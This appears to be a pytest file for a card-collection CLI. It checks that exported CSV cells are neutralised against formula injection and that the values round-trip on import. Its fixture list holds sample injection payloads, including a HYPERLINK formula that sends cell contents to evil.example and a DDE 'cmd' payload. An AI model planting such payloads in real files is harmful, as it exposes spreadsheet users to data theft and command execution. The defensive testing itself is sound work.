"""CSV formula injection (issue 16): exported cells never start a formula, and
importing gives back exactly what was exported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from lalcheck.collection import Holding, open_collection
from tests.conftest import DECKS, TEST_DB, CliRun

#: Notes a spreadsheet would run as formulas, and some that only look close.
NOTES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'=already quoted",
    "''+twice quoted",
    "'a plain quote",
    "plain = text",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_exported_cells_are_neutralised_and_import_back_exactly(
    run: CliRun, tmp_path: Path
) -> None:
    source, copy = tmp_path / "source.sqlite3", tmp_path / "copy.sqlite3"
    with open_collection(source) as collection:
        collection.add_all(
            Holding("T01/001", 1, foil=index % 2 == 1, language=f"x{chr(97 + index)}", note=note)
            for index, note in enumerate(NOTES)
        )
    exported = run("collection", "export", "--collection", source, "--db", TEST_DB)
    listed = run("collection", "list", "--format", "csv", "--collection", source, "--db", TEST_DB)
    for text in (exported.stdout, listed.stdout):
        assert not [cell for cell in cells(text) if cell[:1] in TRIGGERS]
    path = tmp_path / "rows.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    imported = run("collection", "import", path, "--collection", copy, "--db", TEST_DB)
    assert imported.exit_code == 0, imported.output
    with open_collection(source) as first, open_collection(copy) as second:
        assert first.holdings() == second.holdings()
        assert sorted(row.note for row in second.holdings()) == sorted(NOTES)
    again = run("collection", "export", "--collection", copy, "--db", TEST_DB)
    assert again.stdout == exported.stdout


def test_a_wishlist_of_formula_names_is_neutralised(run: CliRun, tmp_path: Path) -> None:
    data = yaml.safe_load(TEST_DB.read_text(encoding="utf-8"))
    for card, name in zip(data["cards"], ("=1+1", "@A1", "-A1", "+A1"), strict=False):
        card["name"] = name
        card["names"] = {"en": name}
    db = tmp_path / "cards.yaml"
    db.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    deck = DECKS / "positive" / "base.yaml"
    result = run(
        "collection",
        "missing",
        "--format",
        "csv",
        "--db",
        db,
        deck,
        "--collection",
        tmp_path / "none.sqlite3",
    )
    assert result.exit_code == 0, result.output
    written = cells(result.stdout)
    assert "'=1+1" in written
    assert not [cell for cell in written if cell[:1] in TRIGGERS]


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "é"])))
def test_neutralise_round_trips_and_never_starts_a_formula(cell: str) -> None:
    from lalcheck.collection.csvio import neutralise, restore

    written = neutralise(cell)
    assert written[:1] not in TRIGGERS
    assert restore(written) == cell
